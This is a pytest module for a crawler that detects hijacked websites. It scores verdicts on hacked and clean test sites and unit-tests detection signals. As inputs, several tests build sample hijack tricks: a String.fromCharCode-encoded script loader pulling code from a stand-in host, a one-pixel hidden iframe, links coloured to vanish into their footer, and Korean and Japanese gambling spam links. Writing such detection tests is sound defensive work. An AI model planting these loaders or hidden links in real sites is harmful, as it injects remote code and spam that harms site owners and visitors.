"""The blind hijack7 set (tests/blind_hijack7.py): 21 hacked sites and 6 clean ones
that look suspicious, scanned on the farm at depths full and home with a fixed clock,
each verdict against the truth written before the first scan."""

from __future__ import annotations

import asyncio
import html
import re
from collections.abc import Callable
from typing import Any

import pytest
from aiohttp import web

from crawler.models import Site
from tests import blind_hijack7 as bh
from tests.blind_farm import Columns, Records, scan_on_farm
from tests.farm import Farm

# Verdicts still wrong, by site id and depth ("*" = both): the reason.
SAME_COLOUR_GAP = (
    "gap: links coloured #f2f2f2 inside a footer whose background #F2F2F2 comes from a <style> "
    "rule: text in its background colour is read only when one style attribute sets both "
    "colour and background; an ancestor's background (from its style or the page's rules) is "
    "not looked up (the spam words still make the site hijacked: spam_content)"
)
KNOWN_GAPS: dict[tuple[str, str], str] = {("h11_same_color", "*"): SAME_COLOUR_GAP}
# Columns still read wrong at depth full, by site id: the reason.
COLUMN_GAPS: dict[str, str] = {}

SITES = bh.SITES

OTHER_SITE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>{host}</title></head>
<body><h1>{host}</h1><p>Another site, answering every path.</p></body></html>"""

ARTICLE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>{name}</title></head>
<body><div class="crumb"><a href="/">Home</a></div><div class="content"><p>{name}</p></div></body></html>"""

_HOSTS = re.compile(r"""(?:href|src|value|content|action)=["']?https?://([A-Za-z0-9.-]+)""", re.I)


def _page(body: str, status: int = 200) -> web.Response:
    return web.Response(status=status, text=body, content_type="text/html", charset="utf-8")


def handler(site: bh.BlindSite) -> Callable[[web.Request], Any]:
    async def answer(request: web.Request) -> web.StreamResponse:
        body = site.pages.get(request.path_qs) or site.pages.get(request.path)
        if body is not None:
            return _page(body)
        if request.path == "/robots.txt":
            return web.Response(status=404, text="not found")
        return _page(ARTICLE.format(name=html.unescape(site.name)))

    return answer


def other(host: str) -> Callable[[web.Request], Any]:
    async def answer(request: web.Request) -> web.StreamResponse:
        if request.path == "/robots.txt":
            return web.Response(status=404, text="not found")
        return _page(OTHER_SITE.format(host=host))

    return answer


def register(server: Farm) -> None:
    for site in SITES:
        for body in site.pages.values():
            for host in _HOSTS.findall(body):
                server.sites.setdefault(host.lower(), other(host.lower()))
    for site in SITES:
        server.sites[site.host] = handler(site)


_cache: dict[str, tuple[Records, Columns]] = {}


async def scan(depth: str) -> tuple[Records, Columns]:
    """Every site scanned once per depth (each test reads the same scan)."""
    if depth not in _cache:
        sites = [Site(f"http://{s.host}/", name=s.sid, group="blind_hijack7") for s in SITES]
        _cache[depth] = await scan_on_farm(sites, register, depth, bh.NOW, every_host=True)
    return _cache[depth]


def mismatch(site: bh.BlindSite, record: dict[str, Any], depth: str) -> str | None:
    truth = site.truth
    got = {f["code"] for f in record["findings"]}
    if depth == "full":
        want_status, must, must_any = truth.status, truth.must, truth.must_any
    else:
        want_status = truth.home_status or truth.status
        must = () if truth.home_status else truth.must
        must_any = truth.must_any if truth.home_must_any is None else truth.home_must_any
    problems = []
    if record["status"] != want_status:
        problems.append(f"status {record['status']} (want {want_status})")
    missing = set(must) - got
    if missing:
        problems.append(f"missing {sorted(missing)}")
    if must_any and not set(must_any) & got:
        problems.append(f"none of {list(must_any)}")
    wrong = set(truth.must_not) & got
    if wrong:
        problems.append(f"false {sorted(wrong)}")
    if not problems:
        return None
    return f"{site.sid}: " + "; ".join(problems) + f" | got {sorted(got)}"


def column_mismatch(site: bh.BlindSite, rows: list[dict[str, Any]]) -> list[str]:
    found = {c["name"]: c for c in rows}
    wrong = []
    for col in site.truth.columns:
        row = found.get(col.name)
        if row is None:
            wrong.append(f"{col.name}: not found (found {sorted(found)})")
            continue
        newest = max(d for _, d in col.items).isoformat() if col.items else None
        got = (row.get("type"), row.get("newest"), bool(row.get("empty")))
        want = (col.ctype, newest, col.empty)
        if got != want:
            wrong.append(f"{col.name}: {got} (want {want})")
    return wrong


def gap(sid: str, depth: str) -> str | None:
    return KNOWN_GAPS.get((sid, depth)) or KNOWN_GAPS.get((sid, "*"))


@pytest.mark.parametrize("depth", ["full", "home"])
async def test_blind_hijack7_verdicts(depth: str) -> None:
    records, _ = await scan(depth)
    wrong = []
    fixed_gaps = []
    for site in SITES:
        problem = mismatch(site, records[site.sid], depth)
        known = gap(site.sid, depth)
        if problem and not known:
            wrong.append(problem)
        if known and not problem:
            fixed_gaps.append(site.sid)
    assert not wrong, "\n".join(wrong)
    assert not fixed_gaps, f"known gaps now right (remove them): {fixed_gaps}"


async def test_blind_hijack7_clean_columns() -> None:
    """The clean sites' columns: type, newest date and emptiness at depth full."""
    _, columns = await scan("full")
    wrong = []
    fixed = []
    for site in SITES:
        if not site.truth.columns:
            continue
        problems = column_mismatch(site, columns.get(site.sid, []))
        if problems and site.sid not in COLUMN_GAPS:
            wrong.append(f"{site.sid}: " + "; ".join(problems))
        if site.sid in COLUMN_GAPS and not problems:
            fixed.append(site.sid)
    assert not wrong, "\n".join(wrong)
    assert not fixed, f"column gaps now right (remove them): {fixed}"


def _signals(body: str, title: str = "Glenwood Springs Recreation District") -> Any:
    from datetime import date

    from crawler.extract import observe
    from crawler.lexicon import build_lexicon
    from crawler.signals import build_signatures

    html_text = (
        f"<html><head><meta charset=utf-8><title>{title}</title></head><body>{body}</body></html>"
    )
    page = observe(
        html_text.encode(),
        "utf-8",
        "http://www.glenwood-demo.org/",
        "text/html",
        date(2026, 11, 20),
        build_lexicon(),
        signatures=build_signatures(),
    )
    return page.signals


def _codes(body: str, title: str = "Glenwood Springs Recreation District") -> set[str]:
    from pathlib import Path

    from crawler.config import config_from_mapping
    from crawler.integrity import signal_findings

    rules = config_from_mapping({}, Path("none.toml")).rules
    return {f.code for f in signal_findings(_signals(body, title), rules, "homepage")}


def test_korean_and_japanese_spam_words() -> None:
    """Korean toto/casino and adult words, Japanese online-casino and adult words, in
    link texts to other sites: spam (they were no terms at all before round 7)."""
    kr = "".join(
        f'<a href="https://kr{i}.example/">{t}</a> '
        for i, t in enumerate(
            ["토토사이트 추천", "먹튀검증 안전놀이터", "온라인카지노 바카라사이트", "출장안마 24시"]
        )
    )
    jp = "".join(
        f'<a href="https://jp{i}.example/">{t}</a> '
        for i, t in enumerate(
            ["オンラインカジノ 入金不要ボーナス", "ライブカジノ おすすめ", "無修正 エロ動画 無料"]
        )
    )
    assert "spam_content" in _codes(f"<p>Partners</p>{kr}")
    assert "spam_content" in _codes(f"<p>Recent posts</p>{jp}")
    # a police report names them as crimes: discounted by the context words
    report = (
        "<p>경찰은 불법 토토사이트와 온라인카지노 운영 조직을 검거했다고 밝혔다.</p>"
        "<p>警察はオンラインカジノは違法であり、賭博罪に当たると注意を呼びかけた。</p>"
    )
    assert "spam_content" not in _codes(report * 2, "경찰청 Police news")


def test_a_script_loaded_from_an_encoded_address() -> None:
    """createElement("script") whose src is String.fromCharCode(...) of another site's
    address: a kit's loader, hidden_links alone; not when the address is the site's own
    or a counter's, nor an encoded address no script is loaded from."""

    def loader(url: str, load: bool = True) -> str:
        codes = ",".join(str(ord(c)) for c in url)
        load_code = "document.head.appendChild(s);" if load else ""
        make = (
            "var s=document.createElement('script');s.src=" if load else "var s=window.open;var u="
        )
        return f"<script>{make}String.fromCharCode({codes});{load_code}</script><p>Welcome</p>"

    assert "hidden_links" in _codes(
        loader("https://trend.stablelightway.example/scripts/sl.js?v=7")
    )
    assert "hidden_links" not in _codes(loader("https://www.glenwood-demo.org/js/menu.js"))
    assert "hidden_links" not in _codes(loader("https://hm.baidu.com/hm.js?5f1e3c1b"))
    assert "hidden_links" not in _codes(
        loader("https://trend.stablelightway.example/x", load=False)
    )


def test_a_one_pixel_frame_of_another_site() -> None:
    """<iframe width=1 height=1> of an unknown host: dark links alone; a quiet host's
    (a tag manager's) and a frame of the site's own page are not."""
    assert "hidden_links" in _codes(
        '<iframe src="http://www.js8866-vip.example/" width="1" height="1"></iframe>'
    )
    assert "hidden_links" not in _codes(
        '<iframe src="https://www.googletagmanager.com/ns.html?id=GTM-X" width="1" height="1"></iframe>'
    )
    assert "hidden_links" not in _codes('<iframe src="/count.html" width="0" height="0"></iframe>')


@pytest.mark.xfail(strict=True, reason=SAME_COLOUR_GAP)
def test_links_in_the_colour_of_their_footer() -> None:
    links = "".join(f'<a href="https://bet{i}.example/">link {i}</a>' for i in range(4))
    body = (
        f'<style>.footer{{background:#F2F2F2}}</style><div class="footer">'
        f'<p>Copyright</p><p style="color:#f2f2f2">{links}</p></div>'
    )
    assert "hidden_links" in _codes(body)


async def _score() -> None:
    """The score table (run this module as a script)."""
    ok = {"full": 0, "home": 0}
    cols_ok = cols_all = 0
    for depth in ("full", "home"):
        records, columns = await scan(depth)
        for site in SITES:
            rec = records[site.sid]
            problem = mismatch(site, rec, depth)
            ok[depth] += problem is None
            codes = sorted(f["code"] for f in rec["findings"])
            print(f"{depth:4} {site.sid:22} {rec['status']:9} {codes}")
            if problem:
                print("     !!", problem)
                for f in rec["findings"]:
                    print("        ", f["code"], str(f.get("detail", ""))[:150])
            if depth == "full" and site.truth.columns:
                cw = column_mismatch(site, columns.get(site.sid, []))
                cols_all += len(site.truth.columns)
                cols_ok += len(site.truth.columns) - len(cw)
                for w in cw:
                    print("     col!!", w)
    n = len(SITES)
    print(
        f"verdicts full {ok['full']}/{n}, home {ok['home']}/{n}; clean columns {cols_ok}/{cols_all}"
    )


if __name__ == "__main__":
    asyncio.run(_score())
